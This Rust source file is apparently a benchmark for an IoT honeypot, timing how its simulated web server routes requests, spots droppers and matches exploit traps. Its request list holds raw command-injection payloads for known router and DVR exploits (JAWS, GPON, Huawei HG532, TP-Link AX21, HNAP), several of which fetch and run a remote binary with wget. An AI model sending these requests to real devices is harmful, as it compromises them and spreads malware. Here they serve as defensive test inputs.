//! `iotpot bench http`: what a device web server spends on one request
//! before any I/O — routing it (`Site::route`), looking for droppers in it
//! (`Site::droppers`) and matching it against the exploit traps
//! (`Site::trap_hit`, the most any built-in profile's traps take) — for
//! ordinary requests and for the published exploits' requests, on one
//! core.

use iotpot_core::deployment::Deployment;
use iotpot_core::honeytoken::Honeytokens;
use iotpot_core::{Profile, SessionInfo};
use iotpot_session::http::Site;
use iotpot_session::System;
use std::time::Instant;

/// Requests as browsers, scanners and exploits send them.
const REQUESTS: &[(&str, &str)] = &[
    ("browser GET /", "GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n\r\n"),
    ("scanner GET /DVR.cfg", "GET /DVR.cfg HTTP/1.0\r\nUser-Agent: Mozilla/5.0\r\n\r\n"),
    ("login POST", "POST /login.cgi HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 29\r\n\r\nusername=admin&password=admin"),
    ("JAWS /shell? dropper", "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.7/jaws;sh+/tmp/jaws HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n"),
    ("GPON formPing dropper", "POST /boaform/admin/formPing HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 87\r\n\r\ntarget_addr=%3Bwget%20http%3A%2F%2F192.0.2.7%2Fg.sh%20-O%20-%3E%20%2Ftmp%2Fg%3Bsh%20%2Ftmp%2Fg&waninf=1_INTERNET_R_VID_"),
    ("HG532 SOAP dropper", "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 200\r\nAuthorization: Digest username=\"dslf-config\"\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 192.0.2.7 -l /tmp/m -r /mips;/tmp/m huawei)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>"),
    ("AX21 country dropper", "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60cd+%2Ftmp%3B+wget+http%3A%2F%2F192.0.2.7%2Fshk%3B+chmod+777+shk%3B+.%2Fshk+tplink%60) HTTP/1.1\r\n\r\n"),
    ("HNAP SOAPAction", "POST /HNAP1/ HTTP/1.1\r\nSOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings/`cd && cd tmp && wget http://192.0.2.7/d`\"\r\n\r\n"),
    ("TBK device.rsp", "GET /device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=uname%20-a HTTP/1.1\r\nCookie: uid=1\r\n\r\n"),
];

pub fn run(seconds: f64) -> anyhow::Result<()> {
    let d = Deployment::from_seed([7; 32]);
    let tokens = Honeytokens::new(&d);
    let profile = Profile::load("dvr")?.instantiate(&d);
    let site = Site::new(System::new(profile, 1_700_000_000), &tokens);
    // Every built-in profile with traps: a request is matched against its
    // listener's profile; the bench gives the slowest.
    let trapped: Vec<Site> = Profile::builtins()
        .into_iter()
        .filter(|p| !p.http.traps.is_empty())
        .map(|p| Site::new(System::new(p.instantiate(&d), 1_700_000_000), &tokens))
        .collect();
    let info = SessionInfo::new(
        "192.0.2.9:40000".parse()?,
        "192.0.2.1:80".parse()?,
        "bench".into(),
        "http",
    );
    println!(
        "{:<24} {:>10} {:>14} {:>10}  (traps: the slowest of {} profiles)",
        "request",
        "route µs",
        "droppers µs",
        "traps µs",
        trapped.len()
    );
    for (name, raw) in REQUESTS {
        let Ok(Some((req, n))) = iotpot_wire::http::parse_head(raw.as_bytes()) else {
            anyhow::bail!("{name}: the bench's own request does not parse");
        };
        let body = &raw.as_bytes()[n..];
        let per = seconds / REQUESTS.len() as f64 / (2 + trapped.len()) as f64;
        let time = |f: &mut dyn FnMut()| {
            let (t, mut runs) = (Instant::now(), 0u64);
            while t.elapsed().as_secs_f64() < per {
                for _ in 0..100 {
                    f();
                }
                runs += 100;
            }
            t.elapsed().as_secs_f64() * 1e6 / runs as f64
        };
        let route = time(&mut || {
            let hit = site.trap_hit(&req, body);
            std::hint::black_box(site.route(&req, body, hit, &tokens, &info));
        });
        let droppers = time(&mut || {
            std::hint::black_box(site.droppers(&req, body, 1_700_000_000));
        });
        let traps = trapped
            .iter()
            .map(|s| {
                time(&mut || {
                    std::hint::black_box(s.trap_hit(&req, body));
                })
            })
            .fold(0.0, f64::max);
        println!("{name:<24} {route:>10.2} {droppers:>14.2} {traps:>10.2}");
    }
    Ok(())
}
